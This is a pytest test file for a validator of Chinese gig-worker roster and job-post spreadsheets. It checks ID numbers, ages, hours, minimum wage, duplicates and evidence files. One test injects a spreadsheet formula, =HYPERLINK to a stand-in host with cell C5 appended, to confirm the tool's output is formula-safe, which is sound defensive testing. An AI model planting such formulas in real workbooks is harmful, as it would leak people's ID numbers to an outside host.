"""Each rule of docs/rules.md §6–§9 on a small roster: (row, column, code) tuples, not prose."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from helpers.apps import JOB_POSTS, ROSTER, fill, make_app, table_path, tiny_pdf
from helpers.rules import ADULT, OTHER, D, codes, findings, make_id, r  # noqa: F401
from openpyxl import load_workbook

from lingong_docs.reader.folder import read_application
from lingong_docs.validate.run import validate

CLI = [sys.executable, "-m", "lingong_docs"]
def test_valid_row_has_no_findings(tmp_path):
    found, report = findings(tmp_path, [r()])
    assert found == set() and report.valid


@pytest.mark.parametrize("born, code", [
    ("20100306", "age-under-16"), ("20080306", "age-minor"), ("19490101", "age-implausible"),
    ("19600101", "age-retirement"), ("20250401", "birth-after-task"),
])
def test_age_bands(tmp_path, born, code):
    found, _ = findings(tmp_path, [r(id_number=make_id(born, seq="125"))])
    assert (5, "C", code) in found


def test_age_boundary_exactly_16_is_a_minor_not_a_child(tmp_path):
    found, _ = findings(tmp_path, [r(id_number=make_id("20090305", seq="125"))])
    assert (5, "C", "age-minor") in found and "age-under-16" not in codes(found)


@pytest.mark.parametrize("value, code", [
    ("110105199003071230", "id-check-char"), ("110105491231002", "id-15-digit"),
    ("1101051990030712", "id-length"), ("00010519900307123X", "id-province"),
    ("110105199002301235", "id-birth-date"),
])
def test_id_errors(tmp_path, value, code):
    found, _ = findings(tmp_path, [r(id_number=value)])
    assert (5, "C", code) in found


def test_times_and_hours(tmp_path):
    found, _ = findings(tmp_path, [
        r(seq=1, start=D(2025, 3, 5, 17), end=D(2025, 3, 5, 8)),                         # start ≥ end
        r(seq=2, start=D(2024, 6, 1, 8), end=D(2024, 6, 1, 17), id_number=OTHER),         # other year
        r(seq=3, start=D(2024, 12, 31, 20), end=D(2025, 1, 1, 4), hours=7, pay=300,
          id_number=make_id("19920101", seq="333")),                                      # spans year end
        r(seq=4, hours=0, id_number=make_id("19920102", seq="333")),                      # hours ≤ 0
        r(seq=5, hours=10, pay=400, id_number=make_id("19920103", seq="333")),            # > span (9 h)
        r(seq=6, start=D(2026, 3, 6, 8), end=D(2026, 3, 6, 17), id_number=make_id("19920104", seq="333")),
    ])
    assert (5, "F", "start-not-before-end") in found
    assert (6, "G", "time-outside-year") in found
    assert (7, "F", "task-spans-year-end") in found
    assert (8, "H", "hours-not-positive") in found
    assert (9, "H", "hours-exceed-span") in found
    assert (10, "G", "time-outside-year") in found and (10, "G", "after-application-date") in found


def test_pay_rules_and_minimum_wage_by_date(tmp_path):
    found, _ = findings(tmp_path, [
        r(seq=1, pay=0),
        r(seq=2, pay=320.555, start=D(2025, 3, 6, 8), end=D(2025, 3, 6, 17)),
        r(seq=3, pay=8 * 27, start=D(2025, 3, 7, 8), end=D(2025, 3, 7, 17)),    # 27.0/h ≥ 26.4 before Sept
        r(seq=4, pay=8 * 27, start=D(2025, 9, 7, 8), end=D(2025, 9, 7, 17)),    # 27.0/h < 27.7 from Sept
    ])
    assert (5, "I", "pay-not-positive") in found
    assert (6, "I", "pay-decimals") in found
    assert not any(row == 7 for row, _, _ in found)
    assert (8, "I", "pay-below-minimum") in found


def test_cross_row_rules(tmp_path):
    p2 = make_id("19880808", seq="222")
    phone_ids = [make_id(f"1970010{i}", seq="555") for i in range(1, 5)]
    found, _ = findings(tmp_path, [
        r(seq=1), r(seq=2),                                                        # exact duplicate
        r(seq=3, name="李四", start=D(2025, 4, 1, 8), end=D(2025, 4, 1, 17)),      # same ID, other name
        r(seq=4, id_number=p2, phone="13900000001", start=D(2025, 5, 1, 8), end=D(2025, 5, 1, 14), hours=6,
          pay=240),
        r(seq=5, id_number=p2, phone="13900000001", start=D(2025, 5, 1, 12), end=D(2025, 5, 1, 20), hours=7,
          pay=280),                                                                # overlaps, 13 h that day
        *[r(seq=6 + i, id_number=pid, phone="13911112222", start=D(2025, 6, 1 + i, 8), end=D(2025, 6, 1 + i, 17))
          for i, pid in enumerate(phone_ids)],                                     # 4 IDs on one phone
        r(seq=10, method="现金", start=D(2025, 7, 1, 8), end=D(2025, 7, 1, 17)),
        r(seq=11, method="信用卡", start=D(2025, 7, 2, 8), end=D(2025, 7, 2, 17)),
    ])
    assert (6, "C", "duplicate-row") in found and (5, "C", "duplicate-row") not in found
    assert (7, "B", "id-name-conflict") in found
    assert (9, "F", "overlapping-tasks") in found
    assert {(8, "H", "hours-over-11-per-day"), (9, "H", "hours-over-11-per-day")} <= found
    assert (13, "D", "phone-shared") in found and (12, "D", "phone-shared") not in found
    assert (14, "J", "payment-method-cash") in found
    assert (15, "J", "payment-method-unknown") in found


def test_more_than_24_hours_a_day_is_an_error(tmp_path):
    found, _ = findings(tmp_path, [
        r(seq=1, start=D(2025, 3, 5, 0), end=D(2025, 3, 5, 13), hours=13, pay=520),
        r(seq=2, start=D(2025, 3, 5, 12), end=D(2025, 3, 5, 23, 30), hours=11.5, pay=460, place="朝阳区国贸 保洁"),
    ])
    assert {(5, "H", "hours-over-24-per-day"), (6, "H", "hours-over-24-per-day")} <= found


def test_night_shift_hours_are_split_across_the_days_they_touch(tmp_path):
    # 06:00–23:00 (17 h) and 23:00–07:00 (8 h): 18 h on the first day, 7 h on the next — no error.
    found, _ = findings(tmp_path, [
        r(seq=1, start=D(2025, 3, 5, 6), end=D(2025, 3, 5, 23), hours=17, pay=680),
        r(seq=2, start=D(2025, 3, 5, 23), end=D(2025, 3, 6, 7), hours=8, pay=320, place="朝阳区国贸 保洁"),
    ])
    assert "hours-over-24-per-day" not in codes(found)
    assert {(5, "H", "hours-over-11-per-day"), (6, "H", "hours-over-11-per-day")} <= found


def test_task_ending_at_midnight_on_new_year_belongs_to_the_old_year(tmp_path):
    found, report = findings(tmp_path, [
        r(seq=1, start=D(2025, 12, 31, 16), end=D(2026, 1, 1, 0), hours=8, pay=320),
        r(seq=2, start=D(2024, 12, 31, 16), end=D(2025, 1, 1, 0), hours=8, pay=320,
          id_number=make_id("19920101", seq="777")),
    ])
    assert (5, "G", "time-outside-year") not in found
    assert (6, "G", "time-outside-year") in found


def test_evidence_rules(tmp_path):
    found, _ = findings(tmp_path, [r(seq=1), r(seq=2, start=D(2025, 3, 6, 8), end=D(2025, 3, 6, 17),
                                              remark="凭证：缺失的转账.png")],
                        evidence=("0001 回单.pdf", "0500-0600 多余.pdf"))
    assert (6, "A", "evidence-row-uncovered") in found
    assert (6, "K", "evidence-file-missing") in found
    assert (None, None, "evidence-file-unused") in found
    found2, _ = findings(tmp_path / "b", [r()], evidence=())
    assert "evidence-missing" in codes(found2)


def test_job_post_rules(tmp_path):
    found, _ = findings(tmp_path, [r()], posts=[
        dict(seq=1, title="分拣员", category="物流", published=D(2025, 3, 1), demand=0),
        dict(seq=2, title="分拣员", category="物流", published=D(2025, 3, 1), demand=2.5),
        dict(seq=3, title="分拣员", category="物流", published=D(2024, 3, 1), demand=5),
        dict(seq=4, title=None, category="物流", published=D(2025, 3, 2), demand=5),
        dict(seq=5, title="仓储", category="物流", published=D(2025, 3, 3), demand=5, remark="天津武清仓库"),
    ])
    assert (5, "E", "demand-not-positive") in found
    assert (6, "E", "not-integer") in found and (6, "B", "duplicate-post") in found
    assert (7, "D", "time-outside-year") in found
    assert (8, "B", "required") in found
    assert (9, "F", "post-outside-beijing") in found


def test_applicant_must_match_across_file_and_tables(tmp_path):
    folder = make_app(tmp_path / "app")
    fill(table_path(folder, ROSTER), ROSTER, [r()])
    (folder / "支付凭证" / "0001 回单.pdf").write_bytes(tiny_pdf())
    wb = load_workbook(table_path(folder, JOB_POSTS))
    wb.active["F3"] = "91350100M000100Y43"
    wb.active["C3"] = "另一家公司"
    wb.save(table_path(folder, JOB_POSTS))
    report = validate(read_application(folder))
    mism = [f for f in report.findings if f.code == "applicant-mismatch"]
    assert {(f.file, f.row, f.column) for f in mism} == {(table_path(folder, JOB_POSTS).name, 3, "C"),
                                                         (table_path(folder, JOB_POSTS).name, 3, "F")}


def test_cli_json_keys_exit_codes_and_strict(tmp_path):
    folder = make_app(tmp_path / "app")
    fill(table_path(folder, ROSTER), ROSTER, [r(method="现金")])
    fill(table_path(folder, JOB_POSTS), JOB_POSTS,
         [dict(seq=1, title="分拣员", category="物流", published=D(2025, 3, 1), demand=30)])
    (folder / "支付凭证" / "0001 回单.pdf").write_bytes(tiny_pdf())
    proc = subprocess.run(CLI + ["validate", str(folder), "--format", "json"], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    data = json.loads(proc.stdout)
    assert set(data) == {"valid", "errors", "warnings", "infos", "issues", "stats"}
    assert data["valid"] is True and data["warnings"] == 1
    assert set(data["issues"][0]) == {"code", "severity", "file", "sheet", "row", "column", "header", "value",
                                      "message", "hint"}
    strict = subprocess.run(CLI + ["validate", str(folder), "--strict"], capture_output=True, text=True)
    assert strict.returncode == 1
    fill(table_path(folder, ROSTER), ROSTER, [r(pay=0)])
    assert subprocess.run(CLI + ["validate", str(folder)], capture_output=True).returncode == 1


def test_lone_workbook_takes_year_from_data_and_skips_folder_rules(tmp_path):
    folder = make_app(tmp_path / "app")
    fill(table_path(folder, ROSTER), ROSTER, [r(), r(seq=2, start=D(2025, 3, 6, 8), end=D(2025, 3, 6, 17))])
    proc = subprocess.run(CLI + ["validate", str(table_path(folder, ROSTER)), "--format", "json"],
                          capture_output=True, text=True)
    data = json.loads(proc.stdout)
    assert data["stats"]["year"] == 2025 and data["stats"]["year_source"] == "data"
    assert {i["code"] for i in data["issues"]} == {"year-from-data"}


def test_annotated_copy_marks_cells_lists_findings_and_is_formula_safe(tmp_path):
    folder = make_app(tmp_path / "app")
    fill(table_path(folder, ROSTER), ROSTER, [r(pay=0, place="=HYPERLINK(\"http://x/\"&C5,\"x\")"),
                                              r(seq=2, method="现金", start=D(2025, 3, 6, 8),
                                                end=D(2025, 3, 6, 17))])
    out = tmp_path / "marked.xlsx"
    proc = subprocess.run(CLI + ["validate", str(table_path(folder, ROSTER)), "--annotate", str(out)],
                          capture_output=True, text=True)
    assert proc.returncode == 1, proc.stderr
    wb = load_workbook(out)
    assert wb.sheetnames[0] == "错误清单"
    ws = wb["附件5"]
    assert ws["I5"].fill.fgColor.rgb.endswith("FF9999") and "pay-not-positive" in ws["I5"].comment.text
    assert ws["J6"].fill.fgColor.rgb.endswith("FFEB84")
    listing = wb["错误清单"]
    links = [c.hyperlink.location for c in listing["F"] if c.hyperlink]
    assert "'附件5'!I5" in links
    for row in listing.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f"
    with __import__("zipfile").ZipFile(out) as z:
        sheet_xml = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in z.read(n) for n in sheet_xml[:1])  # the list sheet holds no formula
